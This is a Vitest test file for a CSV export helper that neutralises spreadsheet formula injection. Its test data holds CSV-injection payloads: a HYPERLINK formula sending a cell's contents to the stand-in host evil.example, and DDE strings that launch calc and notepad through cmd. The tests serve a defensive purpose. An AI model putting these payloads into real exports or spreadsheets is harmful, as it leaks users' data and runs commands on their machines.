import { describe, expect, it } from 'vitest';
import { csvCell, csvRow, isFormulaLike } from './csv.js';

describe('csvCell', () => {
  // The payloads of OWASP's CSV-injection page and of the issue: each must reach a
  // spreadsheet as text, i.e. the written cell must not start with a formula character.
  const attacks = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '@SUM(1+1)',
    '=1+1',
    '\t=1+1',
    '\r=1+1',
    "-cmd|' /C notepad'!A1",
  ];

  it.each(attacks)('neutralises %j: quoted, a single quote first, the text kept', (attack) => {
    const cell = csvCell(attack);
    expect(cell.startsWith(`"'`)).toBe(true);
    expect(isFormulaLike(attack)).toBe(true);
    // Read back as CSV, the cell is the attack behind one quote: nothing else changed.
    expect(cell).toBe(`"'${attack.replaceAll('"', '""')}"`);
  });

  it('leaves numbers, phone numbers and a lone dash exactly as they are', () => {
    for (const value of ['+584121234567', '-12.50', '-', '+58 (412) 555-0101', '2026-01-01']) {
      expect(csvCell(value)).toBe(value);
    }
  });

  it('quotes separators as RFC 4180 asks and writes empty cells for missing values', () => {
    expect(csvCell('Pérez, Ana')).toBe('"Pérez, Ana"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
    expect(csvCell('María José')).toBe('María José');
    expect(csvRow([7, null, undefined, true, 12n])).toBe('7,,,true,12\r\n');
  });
});
